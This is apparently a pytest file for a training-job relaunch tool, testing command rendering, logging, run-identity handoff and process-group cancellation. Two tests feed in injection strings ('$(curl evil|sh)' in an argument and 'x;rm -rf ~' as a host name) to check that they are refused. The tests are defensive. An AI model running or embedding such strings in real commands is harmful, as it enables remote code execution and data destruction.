"""Launching: values from the plan, log beside the recording, process-group cancel."""

from __future__ import annotations

import dataclasses
import json
import sys
import time
from pathlib import Path

import numpy as np
import pytest

from rankscope.diagnosis.synthetic import make_window, rank_layout
from rankscope.launch.plan import propose
from rankscope.launch.runner import (
    LaunchSettings,
    prepare,
    script_from_manifest,
    start,
)
from rankscope.launch.safety import UnsafeValueError
from rankscope.launch.templates import find_launcher, load_template

PY = sys.executable


def _window(manifest: dict | None = None):
    world = 16
    t_start = np.tile(np.arange(4) * 1e8, (world, 1))
    win = make_window(t_start, t_start + 1e8, ranks=rank_layout(world), manifest=manifest or {})
    return dataclasses.replace(win, job="llm", run="r1")


def _template(tmp_path: Path, body: str) -> Path:
    path = tmp_path / "launchers" / "probe.toml"
    path.parent.mkdir(exist_ok=True)
    path.write_text(body)
    return path


def _alive(pid: int) -> bool:
    try:
        state = Path(f"/proc/{pid}/stat").read_text().rsplit(")", 1)[1].split()[0]
    except (FileNotFoundError, ProcessLookupError):
        return False
    return state not in ("Z", "X")


def test_script_comes_from_the_parent_manifest() -> None:
    assert script_from_manifest({"argv": ["train.py", "--lr", "0.1"]}) == (
        "train.py",
        ("--lr", "0.1"),
    )
    assert script_from_manifest({}) == (None, ())


def test_hostile_argv_in_telemetry_is_refused(tmp_path: Path) -> None:
    win = _window({"argv": ["train.py", "--x", "$(curl evil|sh)"]})
    plan = propose(win, [], "one-node")
    with pytest.raises(UnsafeValueError, match=r"script_args\[1\]"):
        prepare(
            plan,
            find_launcher("torchrun"),
            LaunchSettings(hub="tcp://127.0.0.1:5555"),
            record=tmp_path,
            manifest=win.manifest,
            local=["node0000", "node0001"],
        )


def test_hostile_host_from_a_rank_never_reaches_a_command(tmp_path: Path) -> None:
    win = _window({"argv": ["train.py"]})
    info = dataclasses.replace(win.ranks, hosts=("node0000", "x;rm -rf ~"))
    plan = propose(dataclasses.replace(win, ranks=info), [], "two-node")
    assert "x;rm -rf ~" in plan.hosts  # the plan shows what the ranks said...
    for name in ("torchrun", "slurm", "slurm-sbatch"):
        with pytest.raises(UnsafeValueError, match="host"):  # ...but nothing renders it
            prepare(
                plan,
                find_launcher(name),
                LaunchSettings(hub="tcp://10.0.0.1:5555"),
                record=tmp_path,
                manifest=win.manifest,
            )


def test_launch_captures_output_and_hands_over_the_run_identity(tmp_path: Path) -> None:
    tpl = load_template(
        _template(
            tmp_path,
            f"""
command = ["{PY}", "-c", "import os; print('child', os.environ['RANKSCOPE_RUN'], os.environ['RANKSCOPE_PARENT_RUN'], os.environ['RANKSCOPE_SCOPE'], os.environ['RANKSCOPE_HUB'])", "{{script}}", "{{script_args}}"]
[env]
RANKSCOPE_HUB = "{{hub}}"
RANKSCOPE_RUN = "{{run}}"
RANKSCOPE_PARENT_RUN = "{{parent_run}}"
RANKSCOPE_SCOPE = "{{scope}}"
""",
        )
    )
    win = _window({"argv": ["train.py", "--steps=3"]})
    plan = propose(win, [], "one-node")
    record = tmp_path / "rec"
    settings = LaunchSettings(hub="tcp://127.0.0.1:5599")
    launch = prepare(plan, tpl, settings, record=record, manifest=win.manifest)
    assert launch.log == record / "reruns" / "r1-one-node.log"
    assert launch.commands[0].argv[-2:] == ("train.py", "--steps=3")
    running = start(launch)
    assert running.wait(timeout=60) == 0
    text = launch.log.read_text()
    assert "child r1-one-node r1 one-node tcp://127.0.0.1:5599" in text
    assert text.startswith("# rankscope: rerun r1-one-node of r1 at one-node")
    saved = json.loads(launch.log.with_suffix(".json").read_text())
    assert saved["plan"]["scope"] == "one-node"
    assert saved["commands"][0]["env"]["RANKSCOPE_PARENT_RUN"] == "r1"
    # A second rerun at the same scope gets its own id and log.
    again = prepare(plan, tpl, settings, record=record, manifest=win.manifest)
    assert again.plan.run == "r1-one-node-2"
    assert again.log.name == "r1-one-node-2.log"


def test_cancel_stops_the_whole_process_group(tmp_path: Path) -> None:
    # The command starts a grandchild, as torchrun starts its workers.
    code = (
        "import subprocess, sys, time; "
        "p = subprocess.Popen([sys.executable, '-c', 'import time; time.sleep(120)']); "
        "print('worker', p.pid, flush=True); time.sleep(120)"
    )
    tpl = load_template(_template(tmp_path, f'command = ["{PY}", "-c", "{code}"]\n'))
    launch = prepare(
        propose(_window(), [], "one-rank"),
        tpl,
        LaunchSettings(hub="tcp://127.0.0.1:5599"),
        record=tmp_path,
    )
    running = start(launch)
    worker = None
    for _ in range(200):
        words = launch.log.read_text().split()
        if "worker" in words:
            worker = int(words[words.index("worker") + 1])
            break
        time.sleep(0.05)
    assert worker is not None and _alive(worker)
    assert running.poll() is None
    code_ = running.cancel(grace_s=5.0)
    assert code_ != 0
    assert running.cancelled
    for _ in range(100):
        if not _alive(worker):
            break
        time.sleep(0.05)
    assert not _alive(worker)
    assert "cancelled" in launch.log.read_text()


def test_missing_program_is_reported(tmp_path: Path) -> None:
    tpl = load_template(_template(tmp_path, 'command = ["/nonexistent/launcher-x"]\n'))
    launch = prepare(
        propose(_window(), [], "one-rank"),
        tpl,
        LaunchSettings(hub="tcp://127.0.0.1:5599"),
        record=tmp_path,
    )
    with pytest.raises(RuntimeError, match="launcher-x"):
        start(launch)


def test_launch_warns_about_what_would_keep_it_from_reporting(tmp_path: Path) -> None:
    win = _window({"argv": ["train.py"]})
    plan = propose(win, [], "two-node")
    launch = prepare(
        plan,
        find_launcher("torchrun"),
        LaunchSettings(hub="tcp://127.0.0.1:5555"),
        record=tmp_path,
        manifest=win.manifest,
        local=[],
    )
    assert any("loopback" in w and "node0000" in w for w in launch.warnings)
    assert any("relative" in w for w in launch.warnings)
    here = prepare(
        propose(win, [], "one-node"),
        find_launcher("torchrun"),
        LaunchSettings(hub="tcp://127.0.0.1:5555", script="/abs/train.py"),
        record=tmp_path,
        manifest=win.manifest,
        local=["node0000", "node0001"],
    )
    assert here.warnings == ()


def test_preparing_writes_nothing_and_start_writes_the_parent_scenario(tmp_path: Path) -> None:
    # A simulated parent's scenario as it ran travels in a file the command names: shown in
    # a dry run (prepare), written only when the rerun starts.
    spec = {"ranks": 16, "fault": {"mechanism": "slow_device"}}
    tpl = load_template(
        _template(
            tmp_path,
            f"""
command = ["{PY}", "-c", "import json, sys; print('spec', json.load(open(sys.argv[1]))['spec']['fault']['mechanism'])", "{{scenario}}"]
""",
        )
    )
    win = _window({"sim": {"scenario": "healthy", "spec": spec}})
    plan = propose(win, [], "one-node")
    record = tmp_path / "rec"
    launch = prepare(
        plan, tpl, LaunchSettings(hub="tcp://127.0.0.1:5599"), record=record, manifest=win.manifest
    )
    named = Path(launch.commands[0].argv[-1])
    assert named == record / "reruns" / "r1-one-node.scenario.json"
    assert not record.exists()  # nothing written: no folder, no spec, no log
    running = start(launch)
    assert running.wait(timeout=60) == 0
    assert json.loads(named.read_text())["spec"] == spec
    assert "spec slow_device" in launch.log.read_text()
